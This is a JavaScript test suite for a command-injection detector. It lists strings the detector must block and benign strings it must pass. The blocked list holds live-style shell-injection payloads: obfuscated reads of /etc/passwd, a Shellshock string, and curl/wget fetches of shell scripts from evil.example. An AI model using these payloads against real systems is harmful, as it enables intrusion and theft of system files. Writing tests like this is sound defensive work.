// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { BLOCKS, scoreOf } from "./helpers.js";

describe("command injection detector", () => {
  for (const attack of [
    "; cat /etc/passwd",
    "a|id",
    "x && whoami",
    "`uname -a`",
    "$(curl http://evil.example/x.sh)",
    "|| /usr/bin/id",
    "; c'a't /etc/passwd",
    "; w\\hoami",
    ";cat${IFS}/etc/passwd",
    "() { :;}; /bin/bash -c 'id'",
    "& ipconfig /all",
    "ls -la /etc",
    "wget http://evil.example/shell.sh",
    "; /???/??t /e??/p?ss??",
    "| type C:\\Windows\\win.ini",
  ]) {
    it(`blocks ${attack}`, () => assert.ok(scoreOf(cmdiDetector, attack) >= BLOCKS, attack));
  }

  for (const benign of [
    "drop me a line",
    "cats & dogs",
    "Tom; cat lovers welcome",
    "fish|chips",
    "ping 127.0.0.1",
    "I use ls and cat every day",
    "Q&A session (part 2)",
    "type 2 diabetes",
    "R&D; find more",
  ]) {
    it(`lets ${benign} through`, () => assert.ok(scoreOf(cmdiDetector, benign) < BLOCKS, benign));
  }

  it("is more careful in User-Agent, where ';' and words are normal", () => {
    const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
    assert.ok(scoreOf(cmdiDetector, ua, "header", "user-agent") < BLOCKS);
  });
});
